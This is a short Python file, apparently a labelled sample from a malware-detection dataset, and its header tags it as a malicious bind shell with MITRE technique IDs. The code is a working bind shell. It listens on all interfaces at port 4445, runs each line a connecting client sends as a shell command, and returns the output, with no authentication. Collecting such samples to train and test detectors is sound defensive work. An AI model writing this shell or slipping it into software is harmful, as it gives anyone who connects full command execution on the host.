# label: malicious family=bindshell techniques=T1059.004,T1095,T1571 lines=8-9,12
import socketserver, subprocess

class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"# ")
        for line in self.rfile:
            out = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(out.stdout + out.stderr + b"# ")

socketserver.ThreadingTCPServer.allow_reuse_address = True
with socketserver.ThreadingTCPServer(("0.0.0.0", 4445), H) as srv:
    srv.serve_forever()
